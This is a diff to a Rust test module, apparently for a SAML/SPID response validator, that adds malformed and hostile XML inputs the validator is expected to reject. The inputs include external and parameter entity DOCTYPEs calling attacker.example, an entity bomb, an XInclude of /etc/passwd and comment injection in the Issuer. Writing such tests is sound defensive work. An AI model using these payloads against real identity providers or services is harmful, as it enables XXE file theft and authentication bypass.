@@ -1,4 +1,6 @@
-//! Attacks on the XML and on its signature: what is added or moved after an honest signature, and dishonest ones.
+//! Attacks on the XML and on its signature: what is added or moved after an honest signature, and dishonest ones
+//! (SPID-R1, SPID-R2, SPID-R7). Each differs from `assertion-signed`, `both-signed` or `signature-without-key-info`,
+//! which are accepted, by the attack alone.
 
 use fascicolo_eid::xml::{self, DS, ENVELOPED, EXC_C14N, Place, SAML};
 
@@ -11,7 +13,7 @@ use crate::rules::anomaly;
 pub(crate) type Attack = (&'static str, &'static str, String);
 
 /// An Assertion that says what the attacker wants, unsigned.
-fn evil(answer: &str) -> String {
+pub(crate) fn evil(answer: &str) -> String {
     let assertion = cut(answer, "saml:Assertion");
     let signature = cut(assertion, "ds:Signature");
     assertion
@@ -40,7 +42,6 @@ pub(crate) fn markup() -> Vec<Attack> {
         ("doctype-external-entity", "doctype", format!("{external}{}", change(&good, cf, "&who;"))),
         ("doctype-entity-bomb", "doctype", format!("{bomb}{}", change(&good, cf, "&c;"))),
         ("doctype-lower-case", "doctype", format!("<!doctype Response>{good}")),
-        ("entity-undeclared", "malformed", change(&good, cf, "&who;")),
         ("stylesheet", "processing_instruction", format!("<?xml-stylesheet href=\"a.xsl\"?>{good}")),
         ("instruction-in-value", "processing_instruction", change(&good, cf, "GDASDV00A01<?a?>H501J")),
         ("declaration-twice", "processing_instruction", format!("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>{good}")),
@@ -53,7 +54,47 @@ pub(crate) fn markup() -> Vec<Attack> {
         ("cdata-of-another-value", "digest_mismatch", change(&good, cf, "<![CDATA[RSSMRA80A01H501U]]>")),
         ("declared-latin-1", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{good}")),
         ("declared-utf-16", "not_utf8", format!("<?xml version=\"1.0\" encoding='UTF-16'?>{good}")),
+        ("declared-version-1-1", "malformed", format!("<?xml version=\"1.1\"?>{good}")),
+        ("declared-version-0", "malformed", format!("<?xml version=\"0.0\" encoding=\"utf-8\" ?>{good}")),
+        ("declared-without-version", "malformed", format!("<?xml encoding=\"utf-8\"?>{good}")),
+        ("declared-without-end", "malformed", format!("<?xml version=\"1.0\"{good}")),
+        ("declared-utf-7", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{good}")),
+        ("declared-utf-8-and-something", "not_utf8", format!("<?xml version=\"1.0\" encoding=\"UTF-8x\"?>{good}")),
+        ("declared-in-upper-case", "processing_instruction", format!("<?XML version=\"1.0\"?>{good}")),
+        ("declared-after-a-blank", "processing_instruction", format!(" <?xml version=\"1.0\"?>{good}")),
+        ("doctype-after-declaration", "doctype", format!("<?xml version=\"1.0\"?>\n<!DOCTYPE Response>{good}")),
+        ("doctype-parameter-entity", "doctype", format!("<!DOCTYPE r [<!ENTITY % who SYSTEM \"https://attacker.example/\">%who;]>{good}")),
+        ("doctype-default-attribute", "doctype", format!("<!DOCTYPE r [<!ATTLIST Response ID ID \"_assertion\">]>{good}")),
+        ("doctype-after-root", "doctype", format!("{good}<!DOCTYPE Response>")),
+        ("comment-in-name-id", "comment", change(&good, "_transient\n", "_trans<!-- -->ient\n")),
+        ("comment-in-issuer", "comment", change(&good, ">https://idp.example</saml:Issuer>\n  <samlp", ">https://idp.example<!-- -->.attacker.example</saml:Issuer>\n  <samlp")),
+        ("comment-in-signature-value", "comment", change(&good, "<ds:SignatureValue>", "<ds:SignatureValue><!-- -->")),
+        ("instruction-in-name-id", "processing_instruction", change(&good, "_transient\n", "_trans<?a?>ient\n")),
+        ("instruction-after-root", "processing_instruction", format!("{good}<?a?>")),
         ("xinclude", "shape", before(&good, STATUS, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>")),
+    ]
+}
+
+/// Not well-formed, or of a size or form that no provider needs.
+#[rustfmt::skip]
+pub(crate) fn forms() -> Vec<Attack> {
+    let good = signed(&unsigned());
+    let cf = "GDASDV00A01H501J";
+    vec![
+        ("entity-undeclared", "malformed", change(&good, cf, "&who;")),
+        ("name-that-begins-with-a-colon", "malformed", before(&good, STATUS, "<:a/>")),
+        ("attribute-that-begins-with-a-colon", "malformed", change(&good, "ID=\"_response\"", ":ID=\"_response\"")),
+        ("attribute-name-huge", "too_long", before(&good, STATUS, &format!("<a {}=\"\"/>", "n".repeat(1025)))),
+        ("namespace-name-huge", "too_long", before(&good, STATUS, &format!("<a xmlns:a=\"{}\"/>", "u".repeat(257)))),
+        ("namespaces-nested", "too_many_attributes", before(&good, STATUS, &(0..65).fold(String::new(), |inner, i| format!("<a xmlns:n{i}=\"n\">{inner}</a>")))),
+        ("nested-too-deeply-in-a-value", "too_deep", change(&good, ">Ada<", &format!(">{}{}<", "<a>".repeat(40), "</a>".repeat(40)))),
+        ("reference-to-nul", "malformed", change(&good, ">Ada<", ">A&#0;da<")),
+        ("reference-to-no-character", "malformed", change(&good, ">Ada<", ">A&#xFFFE;da<")),
+        ("control-character", "malformed", change(&good, ">Ada<", ">A\u{1}da<")),
+        ("attribute-with-less-than", "malformed", change(&good, "ID=\"_response\"", "ID=\"<_response\"")),
+        ("ampersand-alone", "malformed", change(&good, ">Ada<", ">A & da<")),
+        ("cdata-end-in-text", "malformed", change(&good, ">Ada<", ">A]]>da<")),
+        ("entity-in-attribute", "malformed", change(&good, "ID=\"_response\"", "ID=\"&who;\"")),
         ("cut-short", "malformed", good[..good.len() - 4].to_owned()),
         ("two-roots", "malformed", format!("{good}{good}")),
         ("text-after-root", "malformed", format!("{good}text")),
